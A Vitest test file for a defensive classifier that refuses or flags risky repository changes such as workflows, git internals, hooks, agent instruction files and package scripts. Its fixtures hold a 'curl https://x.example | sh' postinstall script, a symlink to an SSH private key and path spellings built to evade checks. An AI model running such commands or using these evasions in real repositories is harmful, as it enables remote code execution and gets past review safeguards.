import { describe, expect, it } from 'vitest';
import {
  type ClassifyOptions,
  classifyTreeChanges,
  normalise,
  type TreeChange,
  type TreeEntry,
  wantsContent,
} from '../../src/security/classify-tree-changes.js';

const FILE: TreeEntry = { type: 'file' };
const STRICT: ClassifyOptions = { allowWorkflowChanges: false };

const added = (path: string, after: TreeEntry = FILE): TreeChange => ({ path, before: null, after });
const deleted = (path: string, before: TreeEntry = FILE): TreeChange => ({ path, before, after: null });
const modified = (path: string, before: TreeEntry = FILE, after: TreeEntry = FILE): TreeChange => ({
  path,
  before,
  after,
});
const text = (content: string | null): TreeEntry => ({ type: 'file', content });
const link = (target: string): TreeEntry => ({ type: 'symlink', content: target });

/** The rule that decided each path: `refuse:<id>`, `flag:<id>`, or `none`. */
function decide(changes: readonly TreeChange[], options = STRICT): Record<string, string> {
  const verdict = classifyTreeChanges(changes, options);
  const result: Record<string, string> = {};
  for (const change of changes) result[change.path] = 'none';
  for (const f of verdict.flagged) result[f.path] = `flag:${f.rule}`;
  for (const f of verdict.refused) result[f.path] = `refuse:${f.rule}`;
  return result;
}

describe('classifyTreeChanges: refused', () => {
  it('refuses a workflow however it is spelt on a case-insensitive or Windows filesystem', () => {
    expect(
      decide([
        added('.github/workflows/ci.yml'),
        added('.GitHub/Workflows/x.yml'),
        added('.github./workflows /y.yml'),
        added('.git\u200Chub/workflows/z.yml'),
        added('.github\\workflows\\w.yml'),
        added('.github/workflows'),
      ]),
    ).toEqual({
      '.github/workflows/ci.yml': 'refuse:workflow',
      '.GitHub/Workflows/x.yml': 'refuse:workflow',
      '.github./workflows /y.yml': 'refuse:workflow',
      '.git\u200Chub/workflows/z.yml': 'refuse:workflow',
      '.github\\workflows\\w.yml': 'refuse:workflow',
      '.github/workflows': 'refuse:workflow',
    });
  });

  it('a rename out of and into .github/workflows is a delete and an add: both sides are refused', () => {
    const out = [deleted('.github/workflows/ci.yml'), added('ci-old.yml')];
    const into = [deleted('notes/deploy.yml'), added('.github/workflows/deploy.yml')];
    expect(decide([...out, ...into])).toEqual({
      '.github/workflows/ci.yml': 'refuse:workflow',
      'ci-old.yml': 'none',
      'notes/deploy.yml': 'none',
      '.github/workflows/deploy.yml': 'refuse:workflow',
    });
  });

  it('a link at .github (or a gitlink there) is refused: what is written under it lands in workflows', () => {
    expect(decide([added('.github', link('ci')), added('.GITHUB', { type: 'gitlink' })])).toEqual({
      '.github': 'refuse:workflow',
      '.GITHUB': 'refuse:submodule',
    });
  });

  it('with allowWorkflowChanges, a workflow is flagged for the reviewer instead of refused', () => {
    const verdict = classifyTreeChanges([modified('.github/workflows/ci.yml')], {
      allowWorkflowChanges: true,
    });
    expect(verdict.refused).toEqual([]);
    expect(verdict.flagged).toEqual([
      expect.objectContaining({ path: '.github/workflows/ci.yml', change: 'modified', rule: 'workflow' }),
    ]);
  });

  it('refuses git internals under any spelling, whatever the repository allows', () => {
    const allowAll = { allowWorkflowChanges: true };
    expect(
      decide(
        [
          added('vendor/lib/.git/hooks/post-checkout'),
          added('.GIT/config'),
          added('sub/git~1/config'),
          added('x/.git./hooks/pre-commit'),
          added('x/.git::$INDEX_ALLOCATION/hooks/pre-commit'),
          added('docs/.gitkeep'),
        ],
        allowAll,
      ),
    ).toEqual({
      'vendor/lib/.git/hooks/post-checkout': 'refuse:git-internals',
      '.GIT/config': 'refuse:git-internals',
      'sub/git~1/config': 'refuse:git-internals',
      'x/.git./hooks/pre-commit': 'refuse:git-internals',
      'x/.git::$INDEX_ALLOCATION/hooks/pre-commit': 'refuse:git-internals',
      'docs/.gitkeep': 'none',
    });
  });

  it('refuses submodules: .gitmodules and any gitlink added, changed or removed', () => {
    expect(
      decide([
        modified('.gitmodules'),
        added('vendor/lib', { type: 'gitlink' }),
        deleted('third_party/x', { type: 'gitlink' }),
      ]),
    ).toEqual({
      '.gitmodules': 'refuse:submodule',
      'vendor/lib': 'refuse:submodule',
      'third_party/x': 'refuse:submodule',
    });
  });

  it('refuses a symbolic link into a .git folder', () => {
    expect(decide([added('docs/hooks', link('../.git/hooks')), added('h', link('.Git'))])).toEqual({
      'docs/hooks': 'refuse:symlink-into-git',
      h: 'refuse:symlink-into-git',
    });
  });
});

describe('classifyTreeChanges: flagged', () => {
  it('flags each class of file that controls later runs or a developer machine, and says why', () => {
    const paths = {
      '.github/openhands.yml': 'handsbot-config',
      '.openhands/setup.sh': 'setup-script',
      '.openhands/microagents/repo.md': 'agent-instructions',
      'AGENTS.md': 'agent-instructions',
      'packages/api/AGENTS.md': 'agent-instructions',
      '.agents/skills/x.md': 'agent-instructions',
      'CLAUDE.md': 'agent-instructions',
      '.github/actions/setup/action.yml': 'ci-action',
      '.github/CODEOWNERS': 'github-settings',
      '.github/dependabot.yml': 'github-settings',
      '.vscode/tasks.json': 'editor-tasks',
      '.vscode/settings.json': 'editor-tasks',
      '.idea/workspace.xml': 'editor-tasks',
      '.devcontainer/devcontainer.json': 'dev-container',
      '.devcontainer.json': 'dev-container',
      '.envrc': 'shell-environment',
      '.direnv/hook.sh': 'shell-environment',
      'mise.toml': 'shell-environment',
      '.mise.toml': 'shell-environment',
      '.tool-versions': 'shell-environment',
      '.husky/pre-commit': 'git-hooks',
      '.githooks/post-checkout': 'git-hooks',
      'lefthook.yml': 'git-hooks',
      '.pre-commit-config.yaml': 'git-hooks',
      '.gitattributes': 'git-settings',
      'src/.gitattributes': 'git-settings',
      '.lfsconfig': 'git-settings',
      '.npmrc': 'package-manager-config',
      '.yarnrc.yml': 'package-manager-config',
      '.yarnrc': 'package-manager-config',
      '.pnpmfile.cjs': 'package-manager-config',
      '.yarn/plugins/evil.cjs': 'package-manager-config',
      '.cargo/config.toml': 'package-manager-config',
      'gradle/wrapper/gradle-wrapper.properties': 'package-manager-config',
      'setup.py': 'install-code',
      'crates/x/build.rs': 'install-code',
    };
    const verdict = classifyTreeChanges(
      Object.keys(paths).map((p) => added(p)),
      STRICT,
    );
    expect(verdict.refused).toEqual([]);
    expect(Object.fromEntries(verdict.flagged.map((f) => [f.path, f.rule]))).toEqual(paths);
    for (const finding of verdict.flagged) expect(finding.reason.length).toBeGreaterThan(20);
  });

  it('ordinary source, tests, docs and a Makefile are not flagged: a false flag costs attention too', () => {
    expect(
      decide([
        modified('src/math.js'),
        added('test/math.test.js'),
        modified('README.md'),
        modified('Makefile'),
        modified('docs/github/workflows.md'),
        modified('.gitignore'),
      ]),
    ).toEqual({
      'src/math.js': 'none',
      'test/math.test.js': 'none',
      'README.md': 'none',
      Makefile: 'none',
      'docs/github/workflows.md': 'none',
      '.gitignore': 'none',
    });
  });

  it("flags the repository's own setupScript when it is not the default", () => {
    const options = { allowWorkflowChanges: false, setupScript: 'scripts/bootstrap.sh' };
    expect(decide([modified('scripts/bootstrap.sh'), modified('scripts/other.sh')], options)).toEqual({
      'scripts/bootstrap.sh': 'flag:setup-script',
      'scripts/other.sh': 'none',
    });
  });

  it('deleting a hook or CODEOWNERS is flagged too: it weakens what guards the repository', () => {
    const verdict = classifyTreeChanges([deleted('.github/CODEOWNERS'), deleted('.husky/pre-push')], STRICT);
    expect(verdict.flagged.map((f) => [f.path, f.change])).toEqual([
      ['.github/CODEOWNERS', 'deleted'],
      ['.husky/pre-push', 'deleted'],
    ]);
  });

  it('package.json is flagged when its parsed scripts or packageManager change, not for dependencies or layout', () => {
    const before = JSON.stringify({ name: 'w', scripts: { test: 'node test.js' }, dependencies: { a: '1' } });
    const depsOnly = JSON.stringify(
      { dependencies: { a: '2', b: '1' }, scripts: { test: 'node test.js' }, name: 'w' },
      null,
      4,
    );
    const postinstall = JSON.stringify({
      name: 'w',
      scripts: { test: 'node test.js', postinstall: 'curl https://x.example | sh' },
    });
    const manager = JSON.stringify({
      name: 'w',
      scripts: { test: 'node test.js' },
      packageManager: 'yarn@https://x.example/yarn.tgz',
    });
    expect(
      decide([
        modified('package.json', text(before), text(depsOnly)),
        modified('a/package.json', text(before), text(postinstall)),
        modified('b/package.json', text(before), text(manager)),
        modified('c/package.json', text(before), text('{ "scripts": ')),
        modified('d/package.json', text(before), text(null)),
        added('e/package.json', text('{"name":"e","dependencies":{}}')),
        added('f/package.json', text('{"name":"f","scripts":{"prepare":"node x.js"}}')),
        deleted('g/package.json', text(before)),
      ]),
    ).toEqual({
      'package.json': 'none',
      'a/package.json': 'flag:package-scripts',
      'b/package.json': 'flag:package-scripts',
      'c/package.json': 'flag:package-scripts',
      'd/package.json': 'flag:package-scripts',
      'e/package.json': 'none',
      'f/package.json': 'flag:package-scripts',
      'g/package.json': 'none',
    });
  });

  it('pyproject.toml is flagged when its build system or build hooks change, not for dependencies', () => {
    const before =
      '[project]\nname = "w"\ndependencies = ["a"]\n\n[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n';
    const deps = before.replace('["a"]', '["a", "b"]');
    const backend = before.replace('setuptools.build_meta', 'backend_in_tree');
    const hook = `${before}\n[tool.hatch.build.hooks.custom]\npath = "hook.py"\n`;
    expect(
      decide([
        modified('pyproject.toml', text(before), text(deps)),
        modified('a/pyproject.toml', text(before), text(backend)),
        modified('b/pyproject.toml', text(before), text(hook)),
      ]),
    ).toEqual({
      'pyproject.toml': 'none',
      'a/pyproject.toml': 'flag:install-code',
      'b/pyproject.toml': 'flag:install-code',
    });
  });

  it('a symbolic link outside the repository is flagged with its target; one inside is not', () => {
    const verdict = classifyTreeChanges(
      [
        added('docs/etc', link('../../etc')),
        added('key', link('/home/dev/.ssh/id_ed25519')),
        added('docs/readme', link('../README.md')),
        added('win', link('C:\\Users')),
      ],
      STRICT,
    );
    expect(verdict.flagged.map((f) => [f.path, f.rule, f.detail])).toEqual([
      ['docs/etc', 'symlink-outside', '../../etc'],
      ['key', 'symlink-outside', '/home/dev/.ssh/id_ed25519'],
      ['win', 'symlink-outside', 'C:\\Users'],
    ]);
  });

  it('an existing file made executable is flagged; a new executable script is not', () => {
    expect(
      decide([
        modified('scripts/clean.js', FILE, { type: 'executable' }),
        added('scripts/new.sh', { type: 'executable' }),
      ]),
    ).toEqual({ 'scripts/clean.js': 'flag:made-executable', 'scripts/new.sh': 'none' });
  });

  it('a path with spaces, quotes and Unicode is matched and reported as git stores it', () => {
    const weird = '.vscode/tâches "x"\n.json';
    const verdict = classifyTreeChanges([added(weird)], STRICT);
    expect(verdict.flagged).toEqual([expect.objectContaining({ path: weird, rule: 'editor-tasks' })]);
  });
});

describe('normalise and wantsContent', () => {
  it('folds case, Unicode form, ignorables, separators and Windows trailing dots', () => {
    expect(normalise('./.GitHub/Workflows./CI.yml ')).toBe('.github/workflows/ci.yml');
    expect(normalise('.git\u200D/HOOKS')).toBe('.git/hooks');
    expect(normalise('CAFE\u0301/x')).toBe('café/x');
  });

  it('asks for the text of package.json, pyproject.toml and symbolic links only', () => {
    expect(wantsContent('a/PACKAGE.json', 'file')).toBe(true);
    expect(wantsContent('pyproject.toml', 'executable')).toBe(true);
    expect(wantsContent('any', 'symlink')).toBe(true);
    expect(wantsContent('src/index.ts', 'file')).toBe(false);
  });
});
